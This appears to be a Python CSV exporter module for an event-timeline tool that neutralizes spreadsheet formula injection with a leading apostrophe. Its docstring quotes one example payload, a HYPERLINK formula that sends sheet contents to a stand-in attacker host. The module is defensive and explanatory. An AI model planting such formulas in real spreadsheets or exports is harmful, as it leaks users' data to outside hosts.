"""CSV (RFC 4180): a header row and one row per event, the json event fields flattened into columns.

Spreadsheets run a cell that starts with "=", "+", "-" or "@" (or a tab or carriage return before one) as a
formula: `=HYPERLINK("http://evil.example/?"&A1,"Click")` in an article would become a live link that sends the
sheet away. Such text cells get a leading "'" (the OWASP advice), which spreadsheets show as text and do not
display; a timeline whose meta holds RAW_CELLS (`chrono build --raw-cells`) is written as it is.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from chrono.lang import Language
from chrono.model import Event, Span, Timeline, Value
from chrono.render.exporters import exporter
from chrono.render.exporters.event_fields import event_record, flat_record

# stands in for an event when the timeline is empty, so the header row still names the schema's columns
_PLACEHOLDER = Event(when=Value(""), phrase="", span=Span(0, 0), sentence="", headline="", document="")


RAW_CELLS = "raw_cells"  # the meta key that keeps formula-like cells as they are
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and fullwidth forms


def neutralize(cell: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, with a leading "'"; anything else as it is."""
    return "'" + cell if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) else cell


def write_rows(header: Sequence[str], rows: Iterable[dict[str, Any]], *, raw: bool = False) -> str:
    """RFC 4180 text: CRLF line ends, fields with commas, quotes or line breaks quoted, quotes doubled; formula-like
    cells neutralized unless ``raw``."""
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=list(header), lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL,
                            extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({key: "" if cell is None else cell if raw else neutralize(cell) for key, cell in row.items()})
    return buffer.getvalue()


def event_rows(events: Iterable[Event], language: Language | None = None) -> list[dict[str, Any]]:
    return [flat_record(event_record(event, language)) for event in events]


@exporter("csv")
def export_csv(timeline: Timeline) -> str:
    rows = event_rows(timeline.events, timeline.language)
    header: list[str] = list((rows or event_rows([_PLACEHOLDER], timeline.language))[0])
    for row in rows[1:]:  # a column only some records carry (sources of a merged event) still gets a header
        header.extend(key for key in row if key not in header)
    return write_rows(header, rows, raw=bool(timeline.meta.get(RAW_CELLS)))
